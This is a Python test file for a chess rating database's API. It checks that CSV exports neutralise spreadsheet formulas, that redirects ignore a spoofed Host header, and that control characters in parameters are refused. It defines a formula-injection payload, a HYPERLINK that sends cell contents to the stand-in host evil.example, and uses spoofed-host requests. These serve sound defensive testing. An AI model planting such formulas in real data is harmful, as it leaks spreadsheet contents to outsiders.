"""The API under abuse (issue 54): its list CSV is safe in a spreadsheet as the site's download is, no
redirect carries the Host header a client sent, and a text parameter with a control character is refused
in one sentence, as the OpenAPI document says. On every engine.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

from sqlalchemy import Engine
from typer.testing import CliRunner

from ratingdb import db
from ratingdb.cli import app as cli
from tests import builders
from tests.site.web import client

runner = CliRunner()
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_the_api_csv_turns_formula_cells_into_text_and_the_list_command_keeps_them(
    db_url: str, engine: Engine
) -> None:
    with db.transaction(engine) as session:
        a = builders.player(session, HOSTILE, fide_id=700001)
        b = builders.player(session, "Plain, Paul", fide_id=700003)
        c = builders.player(session, "@SUM(1+1)", fide_id=700002)
        builders.imported_list(session, "standard", dt.date(2025, 9, 1), {a: 1900, b: 1800, c: 1700})
    with client(db_url) as api:
        response = api.get("/api/v1/lists/standard/2025-09-01/csv")
        assert response.status_code == 200
        described = api.get("/api/v1/openapi.json").json()["paths"][
            "/api/v1/lists/{rating_type}/{list_date}/csv"
        ]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [row["name"] for row in rows] == ["'" + HOSTILE, "Plain, Paul", "'@SUM(1+1)"]
    assert "`ratingdb list --format csv`" in described["get"]["responses"]["200"]["description"]
    exported = runner.invoke(cli, ["--db", db_url, "list", "--format", "csv"])
    assert [row["name"] for row in csv.DictReader(io.StringIO(exported.stdout))] == [
        HOSTILE,
        "Plain, Paul",
        "@SUM(1+1)",
    ]  # the round-trip form


def test_no_redirect_carries_the_host_a_client_sent(db_url: str) -> None:
    with client(db_url) as api:
        moved = api.get("/api/v1/lists/", headers={"host": "evil.example"}, follow_redirects=False)
        live = api.get("/live/", headers={"host": "evil.example"}, follow_redirects=False)
        doubled = api.get("//evil.example/api/v1/lists/", follow_redirects=False)
    assert (moved.status_code, moved.headers["location"]) == (307, "/api/v1/lists")
    assert (live.status_code, live.headers["location"]) == (308, "/live/index.html")
    assert not doubled.headers.get("location", "/").startswith(("//", "/\\"))


def test_a_text_parameter_with_a_control_character_is_one_sentence_as_the_document_says(db_url: str) -> None:
    with client(db_url) as api:
        document = api.get("/api/v1/openapi.json").json()
        refused = api.get("/api/v1/lists", params={"type": "standard\x01"})
        searched = api.get("/api/v1/players", params={"q": "doyle\x1b"})
    for path in document["paths"].values():
        for parameter in path["get"].get("parameters", []):
            if parameter["schema"].get("type") == "string" or "anyOf" in parameter["schema"]:
                schemas = parameter["schema"].get("anyOf", [parameter["schema"]])
                patterns = [
                    s.get("pattern") for s in schemas if s.get("type") == "string" and "format" not in s
                ]
                assert all(patterns), parameter["name"]
    assert (refused.status_code, refused.json()) == (
        400,
        {"error": "type holds a control character, which no type has — remove it"},
    )
    assert (searched.status_code, searched.json()) == (
        400,
        {"error": "q holds a control character, which no q has — remove it"},
    )
